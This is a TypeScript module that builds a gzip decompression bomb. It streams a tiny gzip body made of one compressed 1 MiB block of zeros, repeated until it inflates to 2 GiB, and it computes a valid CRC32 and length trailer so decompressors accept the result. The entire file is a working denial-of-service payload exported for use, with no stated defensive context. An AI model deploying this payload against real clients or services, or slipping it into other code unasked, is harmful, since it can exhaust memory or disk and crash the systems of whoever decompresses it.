// A gzip body of zeros that is tiny on the wire: one deflate block of 1 MiB is compressed once and sent again
// and again. Each block ends in a full flush, at a byte boundary and with an empty window, so that it may be
// repeated; checksum and length at the end are true. RFC 1951, RFC 1952.

import { constants, crc32, deflateRawSync } from 'node:zlib';

export const BOMB_BYTES: number = 2 ** 31;

const BLOCK = Buffer.alloc(2 ** 20);
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
/** A last block with no content. */
const END = Buffer.from([0x03, 0x00]);

/** Yields the parts of a gzip file that inflates to `bytes` zeros (a multiple of 1 MiB, less than 4 GiB). */
export function* gzipBomb(bytes: number = BOMB_BYTES): Generator<Buffer> {
  const block = deflateRawSync(BLOCK, { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = bytes / BLOCK.length;
  yield HEADER;
  for (let i = 0; i < blocks; i++) yield block;
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(checksumOfBlocks(blocks), 0);
  trailer.writeUInt32LE(bytes, 4);
  yield Buffer.concat([END, trailer]);
}

// Running 2 GiB through the checksum would take half a second. But what one more block does to a checksum is
// the same for each of its bits, so the checksums of 33 blocks give that of any number of them.
function checksumOfBlocks(blocks: number): number {
  const ofNothing = crc32(BLOCK, 0);
  const ofBit = Array.from({ length: 32 }, (_, bit) => crc32(BLOCK, (1 << bit) >>> 0) ^ ofNothing);
  let checksum = 0;
  for (let i = 0; i < blocks; i++) {
    checksum = ofBit.reduce(
      (sum, one, bit) => ((checksum >>> bit) & 1 ? sum ^ one : sum),
      ofNothing,
    );
  }
  return checksum >>> 0;
}
